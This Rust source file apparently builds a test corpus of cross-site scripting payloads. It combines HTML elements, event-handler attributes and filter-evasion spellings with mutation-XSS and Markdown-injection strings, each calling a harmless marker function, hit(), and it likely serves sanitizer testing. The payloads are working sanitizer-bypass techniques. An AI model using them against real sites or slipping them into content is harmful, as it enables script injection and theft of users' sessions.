//! Scripts, as they are smuggled into texts: each calls `hit` where something runs it.

/// Elements that a browser does something about.
const ELEMENTS: [&str; 30] = [
    "script",
    "img",
    "svg",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "body",
    "details",
    "math",
    "form",
    "input",
    "button",
    "a",
    "marquee",
    "style",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "textarea",
    "title",
    "select",
    "table",
    "frameset",
    "p",
    "section",
    "x-unknown",
];

/// Attributes that run something.
const ATTRIBUTES: [&str; 16] = [
    "src=x onerror=hit()",
    "onload=hit()",
    "onfocus=hit() autofocus tabindex=1",
    "onmouseover=hit()",
    "onclick=hit()",
    "open ontoggle=hit()",
    "onbegin=hit()",
    "style=animation-name:spin onanimationstart=hit()",
    "style=\"background:url(javascript:hit())\"",
    "href=javascript:hit()",
    "src=javascript:hit()",
    "srcdoc=\"<script>parent.hit()</script>\"",
    "action=javascript:hit()",
    "formaction=javascript:hit() type=submit",
    "xlink:href=javascript:hit()",
    "data=javascript:hit()",
];

/// Ways to write an element with an attribute so that a filter overlooks it and a browser does not.
const SPELLINGS: [fn(&str, &str) -> String; 10] = [
    |element, attribute| format!("<{element} {attribute}>hit()</{element}>"),
    |element, attribute| format!("<{}/{attribute}>", element.to_uppercase()),
    |element, attribute| format!("<{element}\n\t{attribute} //"),
    |element, attribute| {
        format!(
            "<{element} {}>",
            attribute.replace("javascript", "java&#9;script")
        )
    },
    |element, attribute| {
        format!(
            "<{element} {}>",
            attribute.replace("javascript:", "&#106avascript&colon;")
        )
    },
    |element, attribute| format!("<{element} title='>' {attribute}>"),
    |element, attribute| format!("<{element} \"'` {attribute}>"),
    |element, attribute| format!("\"><{element} {attribute}>"),
    |element, attribute| format!("<<{element} {attribute}>>"),
    |element, attribute| format!("&lt;{element} {attribute}&gt;<{element}\u{c}{attribute}>"),
];

/// What turns into something else when a browser reads it twice, and what Markdown makes of texts.
const OTHERS: [&str; 34] = [
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit()&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=hit()>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=hit()>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<table><td><select><form><script>hit()</script>",
    "<textarea><p title=\"</textarea><img src=x onerror=hit()>\">",
    "<title><p title=\"</title><img src=x onerror=hit()>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=hit()>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=hit()>\">",
    "<noembed><p title=\"</noembed><svg/onload=hit()>\">",
    "<template><script>hit()</script></template><img src=x onerror=hit()>",
    "<!--><img src=x onerror=hit()>-->",
    "<!--!><img src=x onerror=hit()>",
    "<![CDATA[><img src=x onerror=hit()>]]>",
    "<?xml ?><img src=x onerror=hit()>",
    "</p><img src=x onerror=hit()>",
    "<p id=\"a\"onload=hit()><svg/onload=hit()>",
    "<a href=\"https://example.org/\" onclick=\"hit()\">x</a>",
    "<a href=\"https://example.org\nonclick=hit()\">x</a>",
    "<img src=\"https://example.org/x\" alt=\"\" onerror=\"hit()\">",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt&colon;hit())",
    "[x](<javascript:hit()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "![x](x \"onerror=hit()\")",
    "![x\" onerror=\"hit()](https://example.org/x)",
    "[x](https://example.org \"a\\\" onmouseover=hit() b=\\\"\")",
    "[x]: javascript:hit()\n\n[x]",
    "<javascript:hit()>",
    "<https://example.org/\"onmouseover=hit()>",
    "```\"><script>hit()</script>\nx\n```",
    "| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |",
];

/// All of them: each element with each attribute, in two spellings that change from one to the next.
pub fn all() -> Vec<String> {
    let mut all: Vec<String> = OTHERS.map(str::to_owned).into();
    for (number, element) in ELEMENTS.iter().enumerate() {
        for (other, attribute) in ATTRIBUTES.iter().enumerate() {
            for shift in [0, 3, 7] {
                let spell = SPELLINGS[(number + other + shift) % SPELLINGS.len()];
                all.push(spell(element, attribute));
            }
        }
    }
    all
}
